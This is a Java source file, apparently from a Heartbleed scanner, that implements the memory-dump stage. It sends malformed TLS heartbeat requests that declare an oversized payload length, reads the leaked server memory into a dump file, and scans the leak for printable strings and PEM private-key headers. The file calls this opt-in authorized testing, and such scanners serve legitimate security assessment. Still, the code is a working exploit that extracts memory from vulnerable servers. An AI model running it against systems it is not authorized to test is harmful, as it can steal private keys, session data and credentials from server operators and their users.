package io.heartguard.scan;

import io.heartguard.targets.ScanTarget;
import io.heartguard.wire.Bytes;
import io.heartguard.wire.heartbeat.HeartbeatFrame;
import io.heartguard.wire.heartbeat.HeartbeatMessage;
import io.heartguard.wire.heartbeat.HeartbeatMessageType;
import io.heartguard.wire.heartbeat.HeartbeatProbe;
import io.heartguard.wire.record.ContentType;
import io.heartguard.wire.record.ProtocolVersion;
import io.heartguard.wire.record.RecordHeader;
import io.heartguard.wire.record.TlsRecord;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.random.RandomGenerator;
import java.util.regex.Pattern;

/**
 * The opt-in dump for authorized testing, run only on a connection the oracle already found VULNERABLE: requests
 * with a {@value #MARKER_BYTES}-byte payload declaring the largest payload_length whose answer still fits one record,
 * sent one at a time. Leaked bytes go to the {@link LeakDump} and nowhere else, and the buffer is wiped after each
 * answer. What comes back is only described: byte count, printable strings, a PEM private-key header.
 *
 * <p>Why not payload_length 65535, as the 2014 exploits sent: before the handshake completes, 1.0.1f writes through
 * its 4096-byte buffering BIO, and a 65554-byte answer is cut into four 16 KB records and a last one of 23 bytes,
 * which stays in the buffer. Every answer would arrive without its end, and the next one behind that stale tail.
 * A one-record answer is over 4096 bytes, so it is flushed whole, every time.
 */
final class LeakDumper {
  static final int MARKER_BYTES = 16;
  /** RFC 6520 section 4 caps a heartbeat at 2^14 bytes: type, length, payload and 16 bytes of padding in one record. */
  static final int DECLARED_LENGTH = RecordHeader.MAX_PLAINTEXT - HeartbeatFrame.HEADER_LENGTH - HeartbeatFrame.MIN_PADDING;
  /** Read budget per request: the answer and its record header, twice over for other records. */
  static final long READ_BUDGET_PER_REQUEST = 2L * (RecordHeader.LENGTH + RecordHeader.MAX_PLAINTEXT);

  private static final Pattern PEM_PRIVATE_KEY = Pattern.compile("-----BEGIN (?:[A-Z0-9]+ )*PRIVATE KEY-----");

  private final ProtocolVersion version;
  private final RandomGenerator random;
  private int responses;
  private long bytes;
  private int printableStrings;
  private int printableRun;
  private boolean privateKeyHeaderSeen;

  LeakDumper(ProtocolVersion version, RandomGenerator random) {
    this.version = version;
    this.random = random;
  }

  /** Sends up to {@code requests} requests and writes what leaks; stops early, keeping what it has, on a failure. */
  DumpSummary run(TlsConnection connection, ScanTarget target, LeakDump dump, int requests) throws IOException {
    connection.raiseReadLimit(requests * READ_BUDGET_PER_REQUEST);
    for (int i = 0; i < requests; i++) {
      byte[] marker = new byte[MARKER_BYTES];
      random.nextBytes(marker);
      HeartbeatMessage request = HeartbeatMessage.request(Bytes.of(marker));
      byte[] malformed = HeartbeatProbe.withDeclaredPayloadLength(request, DECLARED_LENGTH);
      byte[] answer;
      try {
        connection.write(new TlsRecord(ContentType.HEARTBEAT, version, Bytes.of(malformed)).toByteArray());
        answer = readAnswer(connection, marker);
      } catch (ScanFailure f) {
        break; // the dump keeps what it read; the verdict was decided before it started
      }
      try {
        // Everything after the echo of our own payload and padding came from the server's memory.
        int from = HeartbeatFrame.HEADER_LENGTH + request.payload().size() + request.padding().size();
        int to = Math.min(answer.length, HeartbeatFrame.HEADER_LENGTH + DECLARED_LENGTH);
        if (to > from) {
          dump.write(target, answer, from, to - from);
          describe(answer, from, to);
          bytes += to - from;
        }
        responses++;
      } finally {
        Arrays.fill(answer, (byte) 0);
      }
    }
    return new DumpSummary(responses, bytes, printableStrings + (printableRun >= DumpSummary.MIN_STRING_LENGTH ? 1 : 0),
        privateKeyHeaderSeen);
  }

  /** The first heartbeat record answering our marker; answers to earlier requests and other records are skipped. */
  private static byte[] readAnswer(TlsConnection connection, byte[] marker) throws ScanFailure {
    for (int skipped = 0; skipped <= HeartbeatOracle.MAX_SKIPPED_RECORDS; skipped++) {
      TlsRecord record = connection.readRecord();
      if (record.type() == ContentType.HEARTBEAT && isAnswerTo(record.fragment(), marker)) {
        return record.fragment().toByteArray();
      }
    }
    throw new ScanFailure(Failure.LIMIT, "no answer among " + HeartbeatOracle.MAX_SKIPPED_RECORDS + " records");
  }

  private static boolean isAnswerTo(Bytes fragment, byte[] marker) {
    if (fragment.size() < HeartbeatFrame.HEADER_LENGTH + marker.length
        || fragment.get(0) != HeartbeatMessageType.RESPONSE.code()) {
      return false;
    }
    for (int i = 0; i < marker.length; i++) {
      if (fragment.get(HeartbeatFrame.HEADER_LENGTH + i) != (marker[i] & 0xff)) {
        return false;
      }
    }
    return true;
  }

  /** Counts printable runs (carried across answers) and looks for a PEM private-key header; keeps nothing. */
  private void describe(byte[] leaked, int from, int to) {
    for (int i = from; i < to; i++) {
      int b = leaked[i] & 0xff;
      if (b >= 0x20 && b < 0x7f || b == '\t') {
        printableRun++;
      } else {
        if (printableRun >= DumpSummary.MIN_STRING_LENGTH) {
          printableStrings++;
        }
        printableRun = 0;
      }
    }
    if (!privateKeyHeaderSeen) {
      privateKeyHeaderSeen = PEM_PRIVATE_KEY.matcher(new String(leaked, from, to - from, StandardCharsets.ISO_8859_1)).find();
    }
  }
}
